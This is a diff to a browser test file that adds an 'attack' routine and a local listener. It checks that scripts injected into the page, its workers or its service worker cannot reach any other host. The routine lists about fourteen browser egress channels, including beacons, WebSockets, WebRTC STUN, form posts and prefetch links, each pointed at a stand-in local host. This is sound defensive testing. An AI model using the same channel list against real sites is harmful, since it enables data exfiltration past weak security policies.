@@ -1,3 +1,5 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { expect, folderOfShapes, importFolder, openStage, test, trainToTheEnd } from './axial.ts';
 import { shapePng } from './pictures.ts';
 
@@ -31,4 +33,114 @@ test('after the page and its engine have loaded, nothing is requested any more',
   await downloading;
   const after = requests.filter(({ url }) => !url.startsWith('blob:') && !url.startsWith('data:'));
   expect(after.slice(before)).toEqual([]);
+});
+
+/** Tries every door that a script has, from wherever it runs. Answers which of them opened, as far as the script can tell. */
+async function attack(target: string): Promise<string[]> {
+  const opened: string[] = [];
+  const scope = globalThis as typeof globalThis & { importScripts?: (url: string) => void };
+  const socket = target.replace('http', 'ws');
+  const doors: Record<string, () => unknown> = {
+    fetch: () => fetch(`${target}/fetch`, { mode: 'no-cors' }),
+    beacon: () => {
+      navigator.sendBeacon?.(`${target}/beacon`, 'x'); // true, also where the policy holds it
+      return Promise.reject();
+    },
+    import: () => import(`${target}/import.js`),
+    importScripts: () => (scope.importScripts ? scope.importScripts(`${target}/scripts.js`) : Promise.reject()),
+    cache: async () => (await caches.open('attack')).add(`${target}/cache`),
+    request: () =>
+      new Promise((resolve, reject) => {
+        const request = new XMLHttpRequest();
+        Object.assign(request, { onload: resolve, onerror: reject });
+        request.open('GET', `${target}/xhr`);
+        request.send();
+      }),
+    socket: () =>
+      new Promise((resolve, reject) => {
+        Object.assign(new WebSocket(`${socket}/socket`), { onopen: resolve, onerror: reject });
+      }),
+    events: () =>
+      new Promise((resolve, reject) => {
+        Object.assign(new EventSource(`${target}/events`), { onopen: resolve, onerror: reject });
+      }),
+    font: () => new FontFace('attack', `url(${target}/font.woff2)`).load(),
+    image: () =>
+      new Promise((resolve, reject) => {
+        Object.assign(new Image(), { onload: resolve, onerror: reject, src: `${target}/image.png` });
+      }),
+    style: () => {
+      document.documentElement.style.backgroundImage = `url(${target}/style.png)`;
+      return Promise.reject();
+    },
+    prefetch: () => {
+      for (const rel of ['prefetch', 'preconnect', 'preload', 'dns-prefetch', 'modulepreload']) {
+        const link = document.createElement('link');
+        document.head.append(Object.assign(link, { rel, as: 'image', href: `${target}/${rel}` }));
+      }
+      return Promise.reject();
+    },
+    form: () => {
+      const form = document.createElement('form');
+      document.body.append(Object.assign(form, { action: `${target}/form`, method: 'post', target: 'attack' }));
+      form.submit();
+      return Promise.reject();
+    },
+    peer: async () => {
+      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
+      peer.createDataChannel('x');
+      await peer.setLocalDescription(await peer.createOffer());
+      await new Promise((resolve) => Object.assign(peer, { onicegatheringstatechange: resolve }));
+      if (!peer.localDescription?.sdp.includes('candidate')) throw new Error('none');
+    },
+  };
+  for (const [door, open] of Object.entries(doors)) {
+    try {
+      await Promise.race([open(), new Promise((_, reject) => setTimeout(reject, 1500))]);
+      opened.push(door);
+    } catch {
+      // closed
+    }
+  }
+  return opened;
+}
+
+/** Hears every request, and lets everybody in. */
+async function listener(heard: string[]): Promise<{ server: Server; url: string }> {
+  const server = createServer((request, response) => {
+    heard.push(request.url ?? '');
+    response.writeHead(200, {
+      'Access-Control-Allow-Origin': '*',
+      'Cross-Origin-Resource-Policy': 'cross-origin',
+      'Content-Type': 'text/javascript',
+    });
+    response.end('');
+  });
+  server.on('upgrade', ({ url }, socket) => {
+    heard.push(url ?? '');
+    socket.destroy();
+  });
+  server.on('connection', () => heard.push('a connection'));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
+}
+
+test('a script that got into the page, a worker or the service worker reaches no other host', async ({
+  page,
+  context,
+}) => {
+  const heard: string[] = [];
+  const { server, url } = await listener(heard);
+  await page.goto('/');
+  await importFolder(page, folderOfShapes(4));
+  await expect.poll(() => page.workers().length).toBeGreaterThan(1);
+  await expect.poll(() => context.serviceWorkers().length).toBe(1);
+  const opened: Record<string, string[]> = {};
+  opened.page = await page.evaluate(attack, url);
+  for (const worker of [...page.workers(), ...context.serviceWorkers()])
+    opened[new URL(worker.url()).pathname] = await worker.evaluate(attack, url);
+  server.closeAllConnections();
+  server.close();
+  expect(heard).toEqual([]);
+  expect(Object.values(opened).flat()).toEqual([]);
 });
